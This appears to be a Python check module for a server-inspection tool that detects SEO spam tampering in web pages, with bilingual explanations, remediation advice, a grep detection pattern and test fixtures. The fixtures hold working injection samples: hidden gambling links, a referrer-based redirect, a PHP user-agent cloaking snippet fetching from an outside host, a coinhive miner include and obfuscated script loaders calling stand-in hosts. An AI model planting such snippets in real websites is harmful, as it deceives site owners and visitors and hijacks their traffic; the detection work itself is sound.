"""Pages that were changed for search engines: hidden links, foreign scripts, other answers for their robots."""

from __future__ import annotations

from inspector.check import Case, File, Verdicts, check
from inspector.facts.web_files import WebPages
from inspector.malware.pages import signs
from inspector.model import Confidence, Fail, Seen, Severity, Unsure
from inspector.patterns import matches
from inspector.text import Text

PAGE = "/var/www/html/index.html"
LINK = '<a href="http://{}.example/">{}</a>'
HIDDEN = f'<div style="display:none">\n{LINK.format("a", "时时彩")}\n{LINK.format("b", "百家乐投注")}\n</div>\n'
ENTITIES = "".join(f"&#{ord(char)};" for char in "北京赛车开奖")
AWAY = (
    "var r=document.referrer;\nif(r.indexOf('baidu')>0||r.indexOf('sogou')>0){\n location.href='http://b.example/'; }\n"
)
CLOAK = (
    "<?php\n$a = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($a, 'baiduspider') || strpos($a, 'sogou')) {\n"
    "  echo file_get_contents('http://c.example/?' . $_SERVER['REQUEST_URI']); exit; }\n"
)
COUNTER = "document.write(unescape(\"%3Cscript src='http://s4.cnzz.com/z_stat.php' type='text/javascript'%3E\"));\n"


@check(
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    title=Text(en="Hidden links and injected scripts in pages", zh="网页暗链与植入脚本"),
    why=Text(
        en="Whoever can write pages hides links to gambling sites in them, or shows such content to search engines and their"
        " visitors alone: the owner sees nothing, until the site is reported or blocked. The way in is open as well. Pages"
        " that are kept in a database are not seen here.",
        zh="攻击者在取得网页写权限后植入博彩等暗链，或仅向搜索引擎及其带来的访问者展示违规内容，网站管理者正常访问时难以察觉，往往直到被通报或封禁才发现；"
        "同时说明入侵途径仍未关闭。保存在数据库中的页面内容不在本项检查范围内。",
    ),
    fails=Text(en="{subject}: {signs}", zh="{subject}：{signs}"),
    remedy=Text(
        en="Compare the page with the version that was published, keep a copy, and restore it. Search for a web shell and for how"
        " the page could be written, and have search engines forget the content.",
        zh="与发布版本比对，留存样本后恢复该页面；排查网站中的 Webshell 及页面被写入的途径，并向搜索引擎申请删除违规快照。",
    ),
    command="grep -nEi 'display: *none|document.referrer|spider|unescape|fromCharCode|iframe|coinhive|&#' {subject} | cut -c1-300",
    standards={
        "gbt22239-l3": ("8.1.4.7b", "8.1.4.4f"),
        "nist-800-53-r5": ("SI-7", "SI-4"),
        "iso-27001-2022": ("A.8.16",),
    },
    good=[
        {PAGE: f'<div style="display:none">{LINK.format("a", "首页")}{LINK.format("b", "新闻")}</div>\n'},
        {PAGE: f"<title>打击网络赌博专项行动</title>\n{LINK.format('a', '彩票')}{LINK.format('b', '棋牌')}\n"},
        {PAGE: f"<title>{''.join(f'&#{ord(c)};' for c in '市人民医院')}</title>\n"},
        {PAGE: COUNTER + '<script src="http://192.168.1.9/a.js"></script>\n'},
        {"/srv/a.js": "if (document.referrer.indexOf('baidu') > 0) count();\nlocation.href='http://b.example/';\n"},
        {"/srv/bot.php": "<?php $u=$_SERVER['HTTP_USER_AGENT']; $bots=['baiduspider','googlebot'];\n"},
        {PAGE: f"<div hidden>{LINK.format('a', '打击网络博彩')}</div>\n"},
        Case({PAGE: HIDDEN}, params={"allow": ("/var/www/html/*",)}),
        {"/home/bob/mail/index.html": HIDDEN},
    ],
    bad=[
        Case({PAGE: HIDDEN}, fails=[PAGE]),
        Case({PAGE: HIDDEN.replace("display:none", "position:absolute;left:-9999px")}, fails=[PAGE]),
        Case({PAGE: File(f"<meta charset=gb2312>\n{HIDDEN}".encode("gbk"))}, fails=[PAGE]),
        Case({PAGE: f"<div hidden>{LINK.format('a', '澳门赌场')}</div>\n"}, fails=[PAGE]),
        Case({PAGE: "<iframe src=http://a.example/x.html width=0 height=0></iframe>\n"}, fails=[PAGE]),
        Case({PAGE: '<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n'}, fails=[PAGE]),
        Case({PAGE: f"<html><head><title>{ENTITIES}</title>\n"}, fails=[PAGE]),
        Case({PAGE: f'<meta name="keywords" content="{ENTITIES}">\n'}, fails=[PAGE]),
        Case({"/srv/x.php": '<script src="http://203.0.113.9:8080/a.js"></script>\n'}, fails=["/srv/x.php"]),
        Case({"/srv/a.js": AWAY, "/srv/c/index.php": CLOAK}, fails=["/srv/a.js", "/srv/c/index.php"]),
        Case({PAGE: COUNTER.replace("s4.cnzz.com", "js.evil.example")}, fails=[PAGE]),
        Case(
            {
                PAGE: f"document.write(String.fromCharCode({','.join(str(ord(c)) for c in '<script src=//x.example/a.js>')}))"
            },
            fails=[PAGE],
        ),
    ],
)
def hidden_link_or_script(pages: WebPages, *, allow: tuple[str, ...] = ()) -> Verdicts:
    for file in pages.files:
        found = {} if any(matches(glob, file.path) for glob in allow) else signs(file.text)
        if found:
            yield Fail(file.path, file.path, {"signs": list(found.values()), "kinds": list(found)})
        else:
            yield Seen(file.path, file.path)
    for subject, why in pages.unseen:
        yield Unsure(subject, why)
